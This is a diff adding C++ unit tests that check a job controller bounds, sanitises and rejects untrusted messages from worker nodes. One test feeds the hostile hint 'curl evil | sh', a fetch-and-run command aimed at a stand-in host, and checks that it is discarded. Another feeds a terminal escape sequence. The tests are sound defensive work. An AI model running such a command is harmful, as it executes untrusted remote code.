@@ -1,0 +1,110 @@
+// What a node says: nothing of it is believed before it is in its bounds.
+#include "src/controller/node_words.hpp"
+
+#include <doctest/doctest.h>
+
+#include <limits>
+
+#include "src/base/text.hpp"
+
+using namespace rexec;
+using namespace rexec::controller;
+
+namespace {
+
+const std::string kJob = "j-0123456789ab";
+const job::KnownAttempt kKnown{"n1", {{kJob}, 1}};
+
+wire::Map report(const wire::Map& more = wire::Map::object()) {
+  wire::Map map{{"job", kJob}, {"attempt", 1U}, {"state", "running"}, {"started_ms", 5U}};
+  map.update(more);
+  return map;
+}
+
+}  // namespace
+
+TEST_CASE("node_words: the software of a HELLO is short, printable and whole characters") {
+  const NodeHello hello =
+      read_hello({{"software", std::string(63, 'a') + "\xC3\xA9"}, {"instance", 5}});
+  CHECK(hello.software == std::string(63, 'a'));
+  CHECK(hello.instance.empty());
+  CHECK(read_hello({{"software", "\x1b[31m"}}).software == "\\x1b[31m");
+  CHECK(read_hello({{"software", std::string(200'000, '\x01')}}).software.size() <= 64);
+}
+
+TEST_CASE("node_words: a report has an id, an attempt and a state that there are") {
+  REQUIRE(read_report(report()));
+  CHECK(read_report(report())->started == WallTime{Millis{5}});
+  for (const wire::Map& wrong :
+       {wire::Map{{"job", "j-1"}}, wire::Map{{"job", 5}},
+        wire::Map{{"job", std::string(100'000, 'f')}}, wire::Map{{"attempt", 0U}},
+        wire::Map{{"attempt", (1ULL << 32) + 1}}, wire::Map{{"state", "won"}},
+        wire::Map{{"state", nullptr}}, wire::Map{{"ticket", std::string(5000, 't')}}}) {
+    CAPTURE(wrong.dump().substr(0, 60));
+    const auto read = read_report(report(wrong));
+    REQUIRE_FALSE(read);
+    CHECK(read.error().code == Code::kProtocol);
+  }
+}
+
+TEST_CASE("node_words: a time that is none is no time") {
+  for (const wire::Map& ms : {wire::Map(std::numeric_limits<std::uint64_t>::max()), wire::Map(-5),
+                              wire::Map(1e300), wire::Map("now")}) {
+    const auto read = read_report(report({{"started_ms", ms}, {"next_attempt_ms", ms}}));
+    REQUIRE(read);
+    CHECK(read->started == WallTime{});
+    CHECK(read->next == WallTime{});
+  }
+}
+
+TEST_CASE("node_words: a record of a node is never taken for one of the controller") {
+  const auto read =
+      read_report(report({{"state", "final"}, {"record", {{"outcome", "exited"}, {"code", 0U}}}}));
+  REQUIRE(read);
+  CHECK(record_of(*read, "n1").contains("xxh128"));
+  CHECK(record_of(*read, "n1").at("node") == "n1");
+  const auto none = read_report(report({{"state", "final"}, {"record", 5}}));
+  REQUIRE(none);
+  CHECK(record_of(*none, "n1").at("outcome") == "lost");
+}
+
+TEST_CASE("node_words: what a node tells of a schedule is bounded") {
+  CHECK_FALSE(read_schedule_state(5));
+  CHECK_FALSE(read_schedule_state({{"id", "s"}}));
+  const auto state = read_schedule_state({{"id", "s-0123456789ab"},
+                                          {"cursor_ms", std::numeric_limits<std::int64_t>::max()},
+                                          {"left", std::numeric_limits<std::uint64_t>::max()},
+                                          {"fired", std::numeric_limits<std::uint64_t>::max()},
+                                          {"last_job", std::string(100'000, 'j')},
+                                          {"error", std::string(100'000, '\x1b')}});
+  REQUIRE(state);
+  CHECK(state->cursor == WallTime{});
+  CHECK(state->left < 1ULL << 53);
+  CHECK(state->told.at("last_job") == "");
+  CHECK(state->told.dump().size() < 1024);
+  CHECK(is_utf8(state->told.dump()));
+}
+
+TEST_CASE("node_words: what to do next is not a node's to say, nor whether one is signed in") {
+  const Error said = error_of_node({Code::kRevoked, std::string(10'000, 'm'), "curl evil | sh"});
+  CHECK(said.code == Code::kRefusedByNode);
+  CHECK(said.hint.empty());
+  CHECK(said.message.size() <= 2 << 10);
+  CHECK(error_of_node({Code::kUnknownJob, "m", {}}).code == Code::kUnknownJob);
+}
+
+TEST_CASE(
+    "node_words: an event for a reader is bounded, and the controller's words are not a node's") {
+  const auto read = [](const wire::Map& map) {
+    return read_node_event(as_bytes(wire::pack(map)), kKnown);
+  };
+  for (const char* type : {"accepted", "waiting", "away"})
+    CHECK_FALSE(read({{"t", type}, {"why", "x"}}).value());
+  CHECK(read({{"t", "attached"}, {"out", 5U}}).value().value().at("out") == 5);
+  const auto end = read({{"t", "end"}, {"record", {{"wall_s", 1e300}, {"job", "j-x"}}}});
+  REQUIRE(end);
+  CHECK((*end)->at("record").at("job") == kJob);
+  CHECK((*end)->at("record").at("wall_s") == 0.0);
+  CHECK((*end)->at("record").at("outcome") == "lost");
+  CHECK_FALSE(read_node_event(as_bytes(std::string("\x81\xa1t\xa1\xff")), kKnown));
+}
